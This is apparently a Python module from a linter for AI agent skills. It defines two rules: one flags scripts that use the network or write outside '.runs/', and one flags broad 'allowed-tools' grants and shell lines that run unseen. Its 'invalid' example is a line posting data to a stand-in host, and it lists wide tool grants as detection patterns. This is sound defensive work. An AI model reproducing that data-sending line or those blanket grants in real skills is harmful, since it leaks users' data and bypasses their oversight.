"""What a skill can do: SKL-11 over its scripts, SKL-12 over its declared tools and shell lines."""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING, Final

from skillui.checks.capabilities import facts_of
from skillui.checks.credentials import masked
from skillui.checks.facts import CAPABILITIES, Deed
from skillui.checks.rule import Capability, Family, Finding, Rule
from skillui.checks.shell_lines import shell_lines
from skillui.checks.tools import forbidden_reason
from skillui.core.problems import Severity
from skillui.core.text import clipped

if TYPE_CHECKING:
    from skillui.checks.subject import Subject

_PER_FILE: Final = 20


def scripts(subject: Subject) -> Iterator[Finding]:
    """Yield where a bundled script uses the network, or writes or deletes outside `.runs/`."""
    told: dict[str, int] = {}
    seen: set[tuple[str, int, str]] = set()
    for item in facts_of(subject):
        fact = item.fact
        if item.in_block or fact.deed not in (Deed.NETWORK, Deed.WRITE):
            continue
        key = (item.path, fact.line, fact.what)
        if key in seen or told.get(item.path, 0) >= _PER_FILE:
            continue
        seen.add(key)
        told[item.path] = told.get(item.path, 0) + 1
        network = fact.deed is Deed.NETWORK
        hint = "leave the network to the person's own tools" if network else "write below .runs/ only"
        yield Finding(
            f"{item.path} {fact.what}", item.path, fact.line, fact.column, hint, capability=CAPABILITIES[fact.deed]
        )


def tools(subject: Subject) -> Iterator[Finding]:
    """Yield declared tools that allow nearly anything, and shell lines that run before the model reads."""
    seen: set[str] = set()
    for tool in subject.parsed.allowed_tools:
        verdict = forbidden_reason(tool)
        if verdict is None or tool in seen:
            continue
        seen.add(tool)
        reason, plain = verdict
        line, column = subject.place_in_field("allowed-tools", tool)
        yield Finding(
            f"allowed-tools pre-approves '{tool}' ({reason})", line=line, column=column, field="allowed-tools",
            hint="name the commands or paths: Bash(git log:*)", severity=None if plain else Severity.WARNING,
        )  # fmt: skip
    for start, command in shell_lines(subject.body):
        line, column = subject.body.place(start)
        first = masked(clipped(command.partition("\n")[0], 120))
        yield Finding(
            f"a shell line runs before the model sees the text: '{first}'", line=line, column=column,
            hint="tell the model to run it", capability=Capability.SHELL,
        )  # fmt: skip


RULES: tuple[Rule, ...] = (
    Rule(
        "SKL-11", Family.SKL, Severity.NOTE,
        "a bundled script uses the network, or writes or deletes outside .runs/",
        "A script runs with all the rights of the session. One that works offline and writes below `.runs/` alone can "
        "be approved once and for all; any other needs a look at each run. Python is read by its syntax tree, shell "
        "and JavaScript by their tokens; nothing is run. A path that only running would tell counts as outside.\n\n"
        "Write below `.runs/` with names that stand in the script, and leave the network to the person's own tools. "
        "For many skills that is not to be had: then it is a fact to know before trusting them, and no fault.",
        scripts,
        valid="Path('.runs/notes.json').write_text(notes)",
        invalid="requests.post('https://collect.example.org', data=notes)",
    ),
    Rule(
        "SKL-12", Family.SKL, Severity.ERROR,
        "allowed-tools opens the door wide, or a shell line runs unseen",
        "`allowed-tools` grants: what it names runs without a question while the skill is active. `Bash`, `Bash(*)`, "
        "`Bash(sh:*)`, `Write`, `Edit`, `WebFetch`, `WebSearch` and `*` grant nearly anything. A line `!`cmd`` or a "
        "block opened by ```! runs before the model has read a word.\n\n"
        "Name commands and paths: `Bash(git log:*)`, `Bash(python3 scripts/run.py *)`. Write steps as text for the "
        "model to carry out.",
        tools,
        valid="allowed-tools: Bash(git log:*) Read",
        invalid="allowed-tools: Bash Read WebFetch",
    ),
)  # fmt: skip
